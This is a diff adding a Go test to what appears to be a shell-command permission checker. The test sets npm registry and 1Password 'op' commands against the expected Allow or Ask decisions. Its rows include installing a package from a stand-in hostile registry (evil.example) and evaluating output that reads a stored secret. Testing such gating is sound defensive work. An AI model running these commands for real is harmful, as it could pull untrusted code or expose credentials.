@@ -138,3 +138,15 @@ func TestLead61WrittenCopies(t *testing.T) {
 		{"cp scripts/build.sh /tmp/b.sh && bash /tmp/b.sh", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestLead61FP60Left: fp60's rows fpfix61 left (files outside its list).
+func TestLead61FP60Left(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"npm whoami --registry https://npm.pkg.github.com", dsl.Allow, dsl.Allow},
+		{"npm view my-lib --registry https://npm.pkg.github.com", dsl.Allow, dsl.Allow},
+		{"npm install --registry https://evil.example x", dsl.Ask, dsl.Ask},
+		{"eval $(op signin)", dsl.Allow, dsl.Allow},
+		{`eval "$(op signin --account my)"`, dsl.Allow, dsl.Allow},
+		{`eval "$(op read op://x/y/z)"`, dsl.Ask, dsl.Ask},
+	})
+}
